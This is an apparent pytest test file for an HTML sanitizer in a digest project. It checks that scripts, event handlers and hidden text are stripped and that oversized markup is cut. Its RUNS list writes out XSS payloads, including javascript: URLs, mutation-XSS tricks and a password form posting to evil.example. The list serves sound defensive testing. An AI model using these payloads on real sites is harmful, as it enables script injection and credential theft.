from __future__ import annotations

import pytest

from digest.text.html import MAX_CHARACTERS, html_from_text, one_line, plain_text, safe_html

RUNS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='x'></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p hidden><img src=x onerror=alert(1)></p><x-y onmouseover=alert(1)>z</x-y>",
]


@pytest.mark.parametrize("html", RUNS)
def test_nothing_that_runs_loads_or_asks_is_left(html: str) -> None:
    safe = safe_html(html, "https://wire.example/").lower()
    for word in (
        "<script",
        "<img",
        "<svg",
        "<iframe",
        "<object",
        "<form",
        "<meta",
        "<base",
        "<link",
        "<input",
        "<math",
    ):
        assert word not in safe
    for word in ("onerror", "onclick", "onload", "onmouseover", "style=", "javascript:", "data:"):
        assert f" {word}" not in safe.replace('"', " ")


def test_structure_and_links_stay_and_links_become_absolute() -> None:
    html = "<h2>A</h2><p>b <em>c</em> <a href='/d?x=1&amp;y=2' class=q>d</a></p><ul><li>e</ul><blockquote>f</blockquote>"
    link = '<a href="https://wire.example/d?x=1&amp;y=2" rel="nofollow noopener noreferrer">d</a>'
    expected = f"<h2>A</h2><p>b <em>c</em> {link}</p><ul><li>e</li></ul><blockquote>f</blockquote>"
    assert safe_html(html, "https://wire.example/a/") == expected
    assert safe_html(expected, "https://other.example/") == expected


@pytest.mark.parametrize(
    "base", ["http://wire…", "http://:/", "http://wire:99999/", "http://%00/", "http://a b/", "http://xn--/"]
)
def test_a_link_is_no_link_where_no_host_can_have_its_address(base: str) -> None:
    assert "href" not in safe_html("<p><a href='/harbour'>x</a></p>", base)


HIDDEN = [
    "<p hidden>secret</p>",
    "<div style='color:red; DISPLAY : none'>secret<div>secret</div></div>",
    "<span style='visibility:hidden'>secret</span>",
    "<span style='font-size:0'>secret</span>",
    "<span style='font-size: 0px;'>secret</span>",
    "<span style='opacity:0'>secret</span>",
    "<p style='text-indent:-9999px'>secret</p>",
    "<x-widget hidden>secret</x-widget>",
    "<b hidden>secret<br>secret</b>",
    "<a href='https://x.example/>' hidden>secret</a>",
    "<p style='display:none'>secret<p style='display:none'>secret",
    "<template>secret</template>",
    "<noscript>secret</noscript>",
    "<!-- secret -->",
    "<style>secret</style>",
]


@pytest.mark.parametrize("html", HIDDEN)
def test_what_its_writer_hid_reaches_nobody(html: str) -> None:
    assert plain_text(f"<p>before</p>{html}") == "before"
    assert "secret" not in safe_html(f"<p>before</p>{html}")


@pytest.mark.parametrize(
    "html", ["<p style='opacity:0.5'>seen</p>", "<p style='font-size:0.9em'>seen</p>", "<b>hidden</b> seen"]
)
def test_what_is_seen_stays(html: str) -> None:
    assert "seen" in plain_text(html)
    assert "seen" in safe_html(html)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two</p>three<br>four", "one two three four"),
        ("AT&amp;T &lt;b&gt; &#8217;s &nbsp; caf&eacute;", "AT&T <b> ’s café"),
        ("<b>bo</b>ld", "bold"),
        ("if a < b then", "if a < b then"),
        ("  a \n\t b\x00\x1b c ", "a b c"),
        ("<title>x</title>y", "y"),
        ("", ""),
    ],
)
def test_markup_becomes_one_line_of_text(html: str, text: str) -> None:
    assert plain_text(html) == text


def test_plain_text_becomes_paragraphs() -> None:
    assert html_from_text("one < two\nstill one\n\n \n\nthree") == "<p>one &lt; two still one</p><p>three</p>"
    assert plain_text(html_from_text("a <b> & c")) == "a <b> & c"
    assert one_line("a\u2028b\x85c") == "a b c"


BLOW_UPS = [
    "<b>",
    "<table><tr><td>",
    "<a href=x>",
    "<p hidden>",
    "<!--",
    "&",
    "<",
    "<![CDATA[",
    "<a ",
    "<a hidden ",
    "<div style=display:none>",
    "</p>",
    "<svg>",
    "<math><mi>",
]


@pytest.mark.parametrize("piece", BLOW_UPS)
def test_markup_made_to_blow_up_is_cut(piece: str) -> None:
    long = piece * (2 * MAX_CHARACTERS // len(piece)) + " hidden"
    assert len(safe_html(long)) < 16 * MAX_CHARACTERS
    assert len(plain_text(long)) <= MAX_CHARACTERS
